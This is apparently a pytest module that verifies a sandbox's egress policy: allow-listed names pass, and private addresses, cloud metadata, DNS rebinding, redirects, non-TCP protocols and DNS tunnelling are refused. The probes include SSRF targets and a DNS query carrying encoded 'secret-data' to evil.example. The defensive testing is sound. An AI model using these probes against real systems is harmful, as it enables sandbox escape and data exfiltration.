"""What a sandbox reaches and what not, by name and by address, seen from inside, outside and in the journal."""

from __future__ import annotations

import worlds

LIST = ["api.example.com", "*.example.org", "rebind.example.com", "echo.example.com:7000", worlds.OTHER_WEB]
INSIDE_NAMES = [
    "private.example.com",
    "loop.example.com",
    "mapped.example.com",
    "metadata.example.com",
    "own.example.com",
    "own-mapped.example.com",
    "localhost.example.com",
]


def test_what_is_on_the_list_is_reached_and_nothing_else(network, world):
    """Names on the list are reached on their ports, others do not resolve, unlisted addresses are refused."""
    sandbox = network(LIST)
    told = sandbox.run(
        """
tell({
    "exact": fetch("http://api.example.com/echo"),
    "tls": fetch("https://api.example.com/echo"),
    "below": fetch("http://deep.sub.example.org/echo"),
    "address": fetch("http://" + OTHER + "/echo"),
    "itself": attempt(connect, "example.org", 80),
    "other": attempt(connect, "evil.example", 443),
    "raw": attempt(connect, WEB, 80),
    "port": attempt(connect, "api.example.com", 7000),
    "ssh": attempt(connect, OTHER, 22),
    "missing": attempt(connect, "missing.example.org", 80),
})""",
        WEB=worlds.WEB,
        OTHER=worlds.OTHER_WEB,
    )
    assert [told[name][0] for name in ("exact", "tls", "below", "address")] == [200] * 4
    assert '"scheme": "https"' in told["tls"][1]
    refused = {name: told[name] for name in ("itself", "other", "raw", "port", "ssh")}
    assert all(fast for _, fast in refused.values()), refused
    assert "Name or service not known" in refused["itself"][0] and "Name or service not known" in refused["other"][0]
    assert all("ConnectionRefusedError" in refused[name][0] for name in ("raw", "port", "ssh"))
    assert told["missing"][0].startswith("OSError: [Errno 113] No route to host")
    seen = {(entry.protocol, entry.host, entry.address, entry.port, entry.verdict) for entry in sandbox.journal()}
    assert ("tcp", "api.example.com", worlds.WEB, 80, "allowed") in seen
    assert ("dns", "evil.example", "", 0, "refused") in seen
    assert ("tcp", "", worlds.WEB, 80, "refused") in seen
    assert ("tcp", "missing.example.org", "", 80, "failed") in seen
    assert not {name for name in world.queries() if name in ("evil.example", "example.org")}


def test_no_inner_address_is_reached(network, world):
    """Private, loopback, link-local, metadata and the daemon's addresses are refused, raw, by name and by proxy."""
    sandbox = network(True)
    addresses = ["10.77.0.5", "127.0.0.1", "169.254.169.254", "198.18.0.2", "198.18.0.1", "198.18.0.3", worlds.OWN]
    addresses += ["93.184.216.3", "192.168.1.1", "172.16.0.1", "100.64.0.1", "0.0.0.0", "224.0.0.1", "255.255.255.255"]
    addresses += ["100.100.100.200", "168.63.129.16", "93.184.216.255", "198.19.0.9"]
    ports = [80, worlds.OWN_PORT]
    told = sandbox.run(
        """
def proxied(host, port):
    return talk(PROXY, f"CONNECT {host}:{port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
def asked(host, port):
    return talk(PROXY, f"GET http://{host}:{port}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
found = {}
six = ["[::1]", "[::ffff:10.77.0.5]", "[::ffff:127.0.0.1]", "[64:ff9b::a9fe:a9fe]", "[2002:a4d:5::1]", OWN6,
       "[::ffff:93.184.216.2]", "[::ffff:5db8:d802]", "[64:ff9b::5db8:d802]"]
for port in PORTS:
    for host in ADDRESSES + NAMES:
        if host not in ("127.0.0.1", "0.0.0.0", "198.18.0.2"):  # those of the sandbox itself
            found[f"raw {host} {port}"] = attempt(connect, host, port)
    for host in ADDRESSES + NAMES + six:
        found[f"connect {host} {port}"] = attempt(proxied, host, port)
        found[f"http {host} {port}"] = attempt(asked, host, port)
tell(found)""",
        ADDRESSES=addresses,
        NAMES=INSIDE_NAMES,
        PORTS=ports,
        OWN6=f"[{worlds.OWN6}]",
    )
    assert len(told) > 150
    raw = {name: answer for name, (answer, _) in told.items() if name.startswith("raw")}
    assert all("refused" in answer or "rror" in answer for answer in raw.values()), raw
    for name, (answer, fast) in told.items():
        if not name.startswith("raw"):
            assert answer.startswith("HTTP/1.1 403 ") and fast, (name, answer)
    assert world.requests() == []


def test_a_name_that_turns_private_is_refused(network, world):
    """A name that resolves to a public address and then to a private one is reached the first time only."""
    sandbox = network(LIST)
    told = sandbox.run("""
answers = []
for _ in range(4):
    answers.append(attempt(fetch, "http://rebind.example.com/echo")[0])
use_proxy()
for _ in range(4):
    answers.append(attempt(fetch, "http://rebind.example.com/echo")[0])
tell(answers)""")
    reached = [answer for answer in told if isinstance(answer, list) and answer[0] == 200]
    refused = [answer for answer in told if answer not in reached]
    assert reached and refused
    assert all("refused" in answer or answer[0] == 403 for answer in refused), refused
    assert {request["address"] for request in world.requests()} == {worlds.WEB}
    assert any("10.77.0.5 is a private address" in entry.reason for entry in sandbox.journal())


def test_redirects_lead_nowhere_private(network, world):
    """A redirect to a private address or to another host is a request like any: refused, transparent and by proxy."""
    sandbox = network(["api.example.com"])
    told = sandbox.run(
        """
places = ["http://10.77.0.5/", "http://169.254.169.254/latest", "http://" + OWN + ":8080/", "http://evil.example/"]
answers = {}
for place in places:
    answers[place] = attempt(fetch, "http://api.example.com/redirect?to=" + place)
use_proxy()
for place in places:
    answers["proxy " + place] = attempt(fetch, "http://api.example.com/redirect?to=" + place)
tell(answers)""",
        OWN=worlds.OWN,
    )
    assert len(told) == 8
    for place, (answer, fast) in told.items():
        assert fast, place
        if place.startswith("proxy"):
            assert answer[0] == 403 and "podflare" not in answer[1] and ("reach" in answer[1] or "allowed" in answer[1])
        else:
            assert "refused" in answer or "Name or service not known" in answer, (place, answer)
    assert {request["target"].partition("?")[0] for request in world.requests()} == {"/redirect"}


def test_only_tcp_leaves(network, world):
    """UDP, ICMP, other protocols and IPv6 reach nothing; each is refused at once."""
    sandbox = network(True)
    told = sandbox.run(
        """
def datagram(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.connect((host, port))
        sock.send(b"hello")
        return sock.recv(100).decode()
def ping(host):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        sock.settimeout(5)
        sock.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", (host, 0))
        return sock.recv(100)[20:22].hex()
def protocol(number):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, number) as sock, \\
         socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as back:
        back.settimeout(5)
        sock.sendto(b"x" * 20, (WEB, 0))
        return back.recv(100)[20:22].hex()
def six():
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as sock:
        sock.settimeout(5)
        sock.connect((WEB6, 80))
tell({
    "udp": attempt(datagram, WEB, 7000),
    "quic": attempt(datagram, "api.example.com", 443),
    "ntp": attempt(datagram, GATEWAY, 123),
    "ping": attempt(ping, WEB),
    "sctp": attempt(protocol, 132),
    "gre": attempt(protocol, 47),
    "six": attempt(six),
    "names": attempt(lambda: [a[4][0] for a in socket.getaddrinfo("six.example.com", 80)]),
})""",
        WEB=worlds.WEB,
        WEB6=worlds.WEB6,
    )
    assert all(fast for _, fast in told.values()), told
    assert "No route to host" in told["udp"][0] and "No route to host" in told["quic"][0]
    assert "No route to host" in told["ntp"][0]
    assert (told["ping"][0], told["sctp"][0], told["gre"][0]) == ("030d", "0302", "0302")
    assert "unreachable" in told["six"][0]
    assert "No address" in told["names"][0]
    seen = {(entry.protocol, entry.port) for entry in sandbox.journal() if entry.verdict == "refused"}
    assert {("udp", 7000), ("udp", 443), ("udp", 123), ("icmp", 0), ("other", 0)} <= seen


def test_questions_for_names_carry_nothing_out(network, world):
    """With a list no question leaves the gate: other names, odd types and garbage are refused, and journaled."""
    sandbox = network(["api.example.com", "*.example.org"])
    told = sandbox.run(
        """
import struct
def question(name, kind, klass=1, flags=0x0100):
    labels = b"".join(bytes([len(part)]) + part for part in name.encode().split(b".")) + b"\\0"
    return struct.pack(">HHHHHH", 7, flags, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, klass)
def ask(wire, server=GATEWAY, timeout=3):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(timeout)
        sock.sendto(wire, (server, 53))
        data, peer = sock.recvfrom(65536)
        assert peer == (server, 53)
        return [data[3] & 15, struct.unpack(">H", data[6:8])[0]]
def ask_tcp(wires):
    with socket.create_connection((GATEWAY, 53), timeout=5) as sock:
        for wire in wires:
            sock.sendall(struct.pack(">H", len(wire)) + wire)
        answers = []
        file = sock.makefile("rb")
        for _ in wires:
            size = struct.unpack(">H", file.read(2))[0]
            data = file.read(size)
            answers.append([data[3] & 15, struct.unpack(">H", data[6:8])[0]])
        return answers
tell({
    "allowed": ask(question("api.example.com", 1)),
    "case": ask(question("API.Example.COM", 1)),
    "six": ask(question("api.example.com", 28)),
    "text": ask(question("api.example.com", 16)),
    "https": ask(question("api.example.com", 65)),
    "tunnel": ask(question("c2VjcmV0LWRhdGE.evil.example", 1)),
    "tunnel text": ask(question("c2VjcmV0LWRhdGE.evil.example", 16)),
    "elsewhere": ask(question("evil.example", 1), "8.8.8.8"),
    "chaos": ask(question("version.bind", 16, 3)),
    "root": ask(question("", 2)[:12] + b"\\0\\0\\x02\\0\\x01"),
    "transfer": ask(question("api.example.com", 252)),
    "garbage": attempt(ask, b"\\xff" * 40, GATEWAY, 0.3)[0],
    "short": attempt(ask, b"\\0", GATEWAY, 0.3)[0],
    "loop": attempt(ask, struct.pack(">HHHHHH", 7, 0, 1, 0, 0, 0) + b"\\xc0\\x0c\\0\\x01\\0\\x01", GATEWAY, 0.3)[0],
    "answer": attempt(ask, question("api.example.com", 1, flags=0x8180), GATEWAY, 0.3)[0],
    "stream": ask_tcp([question("api.example.com", 1), question("evil.example", 1)]),
})""",
    )
    assert told["allowed"] == told["case"] == [0, 1]
    assert told["six"] == told["text"] == told["https"] == told["transfer"] == [0, 0]
    assert told["tunnel"] == told["tunnel text"] == told["elsewhere"] == told["root"] == [3, 0]
    assert told["chaos"] == [5, 0]
    assert all("timed out" in told[name] for name in ("garbage", "short", "loop", "answer"))
    assert told["stream"] == [[0, 1], [3, 0]]
    assert world.queries() == []
    assert any(entry.host == "c2VjcmV0LWRhdGE.evil.example" for entry in sandbox.journal())


def test_everything_public_is_reached(network, world):
    """With egress=True names have their real answers, long ones over TCP, and public addresses every port."""
    sandbox = network(True)
    told = sandbox.run(
        """
import struct
def text(stream):
    wire = struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\\3api\\7example\\3com\\0" + struct.pack(">HH", 16, 1)
    if stream:
        with socket.create_connection((GATEWAY, 53), timeout=5) as sock:
            sock.sendall(struct.pack(">H", len(wire)) + wire)
            file = sock.makefile("rb")
            return len(file.read(struct.unpack(">H", file.read(2))[0]))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.sendto(wire, (GATEWAY, 53))
        data = sock.recv(65536)
        return [bool(data[2] & 2), len(data) <= 512]
tell({
    "name": socket.gethostbyname("api.example.com"),
    "missing": attempt(socket.gethostbyname, "missing.example.com")[0],
    "echo": talk(("api.example.com", 7000), b"hello", until=b"hello"),
    "web": fetch("https://evil.example/echo")[0],
    "closed": attempt(connect, WEB, 9999),
    "cut": text(False),
    "whole": text(True),
    "mute": attempt(socket.gethostbyname, "mute.example.com")[0],
})""",
        WEB=worlds.WEB,
    )
    assert told["name"] == worlds.WEB and "not known" in told["missing"]
    assert told["echo"] == "hello" and told["web"] == 200
    assert "Connection refused" in told["closed"][0] and told["closed"][1]
    assert told["cut"] == [True, True] and told["whole"] > 2000
    assert "Temporary failure" in told["mute"]
    failed = [entry for entry in sandbox.journal() if entry.port == 9999]
    assert [(entry.verdict, entry.address) for entry in failed] == [("failed", worlds.WEB)]


def test_private_networks_that_the_operator_opened(network, world):
    """A private network is reached if the operator allows it and the policy names it, on the port that it names."""
    sandbox = network(["10.77.0.0/24:80", "private.example.com"])
    told = sandbox.run(
        """
tell([fetch("http://10.77.0.5/echo")[0], fetch("http://private.example.com/echo")[0],
      attempt(connect, "10.77.0.5", 443), attempt(connect, "10.77.1.5", 80)])"""
    )
    assert told[:2] == [200, 200]
    assert all("refused" in answer and fast for answer, fast in told[2:])
